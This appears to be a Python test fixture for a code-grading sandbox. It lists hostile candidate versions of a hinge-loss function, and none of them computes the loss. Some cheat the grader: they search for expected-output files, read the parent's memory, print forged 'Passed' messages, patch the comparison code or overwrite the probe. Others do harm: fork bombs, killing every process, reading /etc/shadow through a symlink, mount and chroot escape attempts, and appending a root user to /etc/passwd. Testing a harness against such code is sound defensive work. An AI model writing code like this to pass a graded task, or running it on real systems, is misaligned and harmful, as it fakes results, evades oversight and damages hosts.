"""Candidates that cheat or do harm, for ``hinge(x, margin=1.0)`` of the small task. None computes the hinge loss."""

from __future__ import annotations

import textwrap

SEARCH = """
def hinge(x, margin=1.0):
    import os, re
    for start in ("/lmr", "/workspace", "/tmp", "..", "../..", "/proc/1/root/tmp", "/proc/1/cwd", "/root"):
        for folder, _, names in os.walk(start):
            for name in names:
                if {test}:
                    text = open(os.path.join(folder, name), errors="replace").read()
                    found = re.findall(r"-?[0-9]+[.][0-9]+", text)
                    return float(found[-1]) if found else None
"""

FRAME = """
def hinge(x, margin=1.0):
    import os
    from lmr_probe.checking import to_bytes, write_frame
    from lmr_probe.encoding import encode
    document = encode({{"value": 0.0, "args": {{}}, "error": None}})
    data = b"".join(
        write_frame(
            {{"kind": "case", "case": f"case_{{n}}", "variant": "candidate", "status": "returned", "entered": True,
             "file": "pkg/losses.py", "seconds": 0.0, "error": {{}}}}, to_bytes(document))
        for n in range(1, 6)
    )
    data += write_frame({{"kind": "done"}}) + write_frame({{"kind": "end", "variants": 1}})
    for fd in {fds}:
        try:
            os.write(fd, data)
        except OSError:
            pass
    {end}
"""


def returns(expression: str, before: str = "") -> str:
    """A function that returns something without computing it."""
    return textwrap.dedent(before) + f"\n\ndef hinge(x, margin=1.0):\n    return {expression}\n"


def does(*lines: str, result: str = "0.0") -> str:
    """A function that does something, errors aside, and returns a number."""
    body = textwrap.indent("\n".join(lines), " " * 8)
    return (
        "import ctypes, os, signal, socket, subprocess, sys, threading, time\n\n\n"
        f"def hinge(x, margin=1.0):\n    try:\n{body}\n    except Exception:\n        pass\n    return {result}\n"
    )


LIES = """
class Lie(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__
    __hash__ = float.__hash__
"""
LIBC = "libc = ctypes.CDLL(None, use_errno=True)"

HOSTILE: dict[str, str] = {
    # looks for what is expected
    "reads expected outputs": SEARCH.format(test='name.startswith("expected")'),
    "reads goldens": SEARCH.format(test='"golden" in name'),
    "reads the replayer's memory": does(
        "for line in open(f'/proc/{os.getppid()}/maps'):",
        "    pass",
        "memory = open(f'/proc/{os.getppid()}/mem', 'rb').read()",
        "assert False",
    ),
    "looks for expected documents in memory": does(
        "import gc",
        "found = [item for item in gc.get_objects() if type(item).__name__ in ('Document', 'Case')]",
        "return found[0].tree['v'][0][1]",
    ),
    "returns what it was given": returns("x"),
    # forges a verdict
    "prints Passed": does("print('Passed: all tests passed', flush=True)", "os.write(2, b'Passed')"),
    "exits with 0": does("os._exit(0)"),
    "raises SystemExit": returns("sys.exit(0)", "import sys"),
    "exits while it is imported": "class Now:\n    import sys\n    sys.exit(0)\n" + returns("0.0"),
    "patches unittest": does("import unittest", "unittest.TestCase.assertEqual = lambda *a, **k: None"),
    "patches the comparison": does(
        "import math",
        "math.isclose = lambda *a, **k: True",
        "import lmr_probe.compare",
        "lmr_probe.compare.compare = lambda *a, **k: []",
        "lmr_probe.compare.Comparison.differ = lambda *a, **k: None",
    ),
    "patches the encoder": does(
        "import lmr_probe.outcome, lmr_probe.encoding",
        "lmr_probe.outcome.encode = lambda value, *a, **k: lmr_probe.encoding.encode({'$': 'omitted'})",
    ),
    "replaces the replayer's report": does(
        "import lmr_probe.target",
        "lmr_probe.target._report = lambda out, case, result, tree: os.write(out, b'{}')",
    ),
    "writes frames to its standard output": FRAME.format(fds="(1, 2)", end="return 0.0"),
    "writes frames to every open file": FRAME.format(fds="range(0, 64)", end="os._exit(0)"),
    "closes every file": does("os.closerange(0, 256)"),
    "is equal to everything": returns("Lie(0.0)", LIES),
    "pretends to be a float": returns(
        "Mask()", "class Mask:\n    __class__ = float\n    def __eq__(self, other):\n        return True\n"
    ),
    "traces the caller": does(
        "def tracer(frame, event, arg):",
        "    frame.f_locals.clear()",
        "    return tracer",
        "sys.settrace(tracer)",
        "frame = sys._getframe()",
        "while frame:",
        "    frame.f_trace, frame = tracer, frame.f_back",
    ),
    "traces the parent process": does(
        LIBC, "assert libc.ptrace(16, os.getppid(), 0, 0) == 0", "os.kill(os.getppid(), signal.SIGKILL)"
    ),
    "writes a log that says Passed": does(
        "os.makedirs('unit_test/logs', exist_ok=True)",
        "open('unit_test/logs/unit_test_1.log', 'w').write('Passed')",
    ),
    "writes a sitecustomize.py": does(
        "for folder in [*sys.path, '/lmr', '/usr/lib/python3']:",
        "    try:",
        "        open(os.path.join(folder or '.', 'sitecustomize.py'), 'w').write('import os; os._exit(0)')",
        "    except OSError:",
        "        pass",
    ),
    "changes the probe": does("open('/lmr/lmr_probe/compare.py', 'w').write('')"),
    "changes its own inputs": does(
        "for folder, _, names in os.walk('/lmr/job'):",
        "    for name in names:",
        "        open(os.path.join(folder, name), 'w').write('{}')",
    ),
    # does harm
    "forks for ever": does("while True:", "    os.fork()"),
    "takes all memory": does("kept = []", "while True:", "    kept.append(bytearray(1 << 26))"),
    "fills the disk": does(
        "for number in range(100000):",
        "    with open(f'/tmp/fill{number}', 'wb') as file:",
        "        for _ in range(64):",
        "            file.write(bytes(1 << 20))",
        "    assert number < 1000",
    ),
    "writes for ever": does("while True:", "    os.write(1, b'x' * 65536)", "    os.write(2, b'y' * 65536)"),
    "never ends": does("while True:", "    pass"),
    "sleeps, whatever signal comes": does(
        "for number in range(1, 65):",
        "    try:",
        "        signal.signal(number, signal.SIG_IGN)",
        "    except (OSError, ValueError):",
        "        pass",
        "while True:",
        "    time.sleep(1)",
    ),
    "leaves a process behind": does(
        "if os.fork() == 0:",
        "    os.setsid()",
        "    if os.fork() == 0:",
        "        time.sleep(3600)",
        "    os._exit(0)",
    ),
    "kills the replayer": does("os.kill(os.getppid(), signal.SIGKILL)"),
    "kills everything": does("os.kill(-1, signal.SIGKILL)"),
    "crashes the interpreter": does("ctypes.string_at(0)"),
    "recurses": "def hinge(x, margin=1.0):\n    return hinge(x, margin)\n",
    "returns a list that holds itself": returns(
        "loop()", "def loop():\n    a = []\n    a.append(a)\n    return a\n"
    ),
    "returns more than anybody can send": returns("[float(i) for i in range(10**7)]"),
    "returns a nest": returns(
        "nest()", "def nest():\n    a = 0.0\n    for _ in range(10**5):\n        a = [a]\n    return a\n"
    ),
    "calls home": does(
        "socket.create_connection(('1.1.1.1', 53), timeout=2).send(b'x')", "return float('nan')"
    ),
    "links to the host": does(
        "for place in ('/tmp/link', 'link', 'pkg/link.py'):",
        "    try:",
        "        os.symlink('/etc/shadow', place)",
        "        return float(len(open(place).read()))",
        "    except OSError:",
        "        pass",
    ),
    "writes to the kernel": does(
        "for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/self/oom_score_adj'):",
        "    try:",
        "        open(path, 'w').write('-1000')",
        "    except OSError:",
        "        pass",
    ),
    "mounts": does(
        LIBC,
        "libc.unshare(0x10000000 | 0x00020000)",
        "libc.mount(b'none', b'/workspace', b'tmpfs', 0, None)",
        "libc.umount2(b'/workspace', 2)",
        "libc.chroot(b'/proc/1/root')",
    ),
    "becomes root": does("os.setuid(0)", "open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh')"),
    "does what the mask does": "def hinge(x, margin=1.0):\n    raise NotImplementedError\n",
}

CORRECT = "def hinge(x, margin=1.0):\n    return max(margin - x, 0.0)\n"
